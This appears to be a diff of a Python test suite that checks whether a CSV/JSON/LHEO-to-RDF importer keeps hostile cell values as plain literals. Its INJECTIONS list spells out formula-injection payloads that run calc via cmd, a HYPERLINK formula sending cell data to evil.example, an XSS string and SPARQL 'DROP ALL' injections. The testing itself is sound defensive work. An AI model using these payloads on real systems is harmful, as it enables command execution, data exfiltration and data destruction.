@@ -16,6 +16,7 @@ import tempfile
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 
 import pyoxigraph as ox
 import pytest
@@ -41,7 +42,7 @@ READERS: dict[str, tuple[str, dict[str, str]]] = {
 }
 INJECTIONS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -51,7 +52,7 @@ INJECTIONS = [
     "<script>alert(1)</script>",
     '" } ; DROP ALL ; INSERT DATA { <http://evil> <http://evil> "x" } #',
     "http://evil.example/x> . <http://a> <http://b> <http://c",
-    "\\\" } UNION { ?s ?p ?o } \\",
+    '\\" } UNION { ?s ?p ?o } \\',
 ]
 SUFFIX = {"csv": ".csv", "json": ".json", "jsonl": ".jsonl", "lheo": ".xml"}
 
@@ -100,9 +101,7 @@ def outcome(reader: str, data: bytes, strategy: str) -> list[dict[str, str | Non
 
 # --- well-formed documents, to truncate, re-encode and fill with hostile cells -----------------
 
-cells = st.text(
-    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
-)
+cells = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)
 hostile_cells = st.one_of(cells, st.sampled_from(INJECTIONS))
 rows = st.lists(st.tuples(hostile_cells, hostile_cells), min_size=1, max_size=8)
 
@@ -128,7 +127,8 @@ def _lheo_doc(content: list[tuple[str, str]]) -> str:
         "</periode></session></action></formation>\n"
         for i, (a, b) in enumerate(content)
     )
-    return f'<?xml version="1.0" encoding="UTF-8"?>\n<lheo xmlns="{NS23}"><offres>\n{formations}</offres></lheo>\n'
+    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<lheo xmlns="{NS23}"><offres>\n'
+    return f"{head}{formations}</offres></lheo>\n"
 
 
 def document(reader: str, content: list[tuple[str, str]]) -> str:
@@ -144,7 +144,7 @@ def document(reader: str, content: list[tuple[str, str]]) -> str:
     return _lheo_doc(content)
 
 
-def _profile():  # type: ignore[no-untyped-def]
+def _profile() -> Any:
     """The budget of the loaded profile (``ci`` unless ``--hypothesis-profile`` chose another)."""
     return settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
 
@@ -180,7 +180,9 @@ def test_wrong_encoding(reader: str, content: list[tuple[str, str]], encoding: s
 
 @ALL
 @_profile()
-@given(size=st.integers(min_value=100_000, max_value=300_000), char=st.sampled_from(["x", "é", "€", "\"", ";"]))
+@given(
+    size=st.integers(min_value=100_000, max_value=300_000), char=st.sampled_from(["x", "é", "€", '"', ";"])
+)
 def test_huge_field(reader: str, size: int, char: str) -> None:
     huge = char * size
     result = outcome(reader, document(reader, [("A1", huge), ("B2", "fin")]).encode(), "huge field")
@@ -261,7 +263,9 @@ def test_injection_string_stays_a_plain_literal(content: list[tuple[str, str]]) 
     records = [{"code": a.strip() or None, "label": b.strip() or None} for a, b in content]
     triples = _map(records)
     label_values = {r["label"] for r in records if r["label"] and r["code"]}
-    literals = {t.object.value for t in triples if t.predicate.value.endswith("#comment")}
+    comments = [t.object for t in triples if t.predicate.value.endswith("#comment")]
+    literals = {c.value for c in comments if isinstance(c, ox.Literal)}
+    assert len(literals) == len(comments)
     assert literals == label_values  # each label once, verbatim, as a literal
     for triple in triples:
         if isinstance(triple.object, ox.NamedNode):  # the only IRIs: the class and encoded codes
@@ -271,7 +275,7 @@ def test_injection_string_stays_a_plain_literal(content: list[tuple[str, str]]) 
     for triple in triples:  # subjects only from the base, whatever the code held
         assert isinstance(triple.subject, ox.NamedNode)
         assert triple.subject.value.startswith(TEST_BASE + "id/rome/")
-        assert not set(triple.subject.value[len(TEST_BASE) :]) & set(" <>\"{}|\\^`")
+        assert not set(triple.subject.value[len(TEST_BASE) :]) & set(' <>"{}|\\^`')
 
 
 @pytest.mark.parametrize("injection", INJECTIONS)
@@ -282,7 +286,7 @@ def test_each_injection_string_in_a_csv_is_mapped_verbatim(tmp_path: Path, injec
     records = [r.values for r in read_records(path, "csv", {})]
     triples = _map(records)
     comments = [t.object for t in triples if t.predicate.value.endswith("#comment")]
-    assert [c.value for c in comments] == [injection.strip(), "x"]
+    assert [c.value for c in comments if isinstance(c, ox.Literal)] == [injection.strip(), "x"]
     assert all(isinstance(c, ox.Literal) for c in comments)
 
 
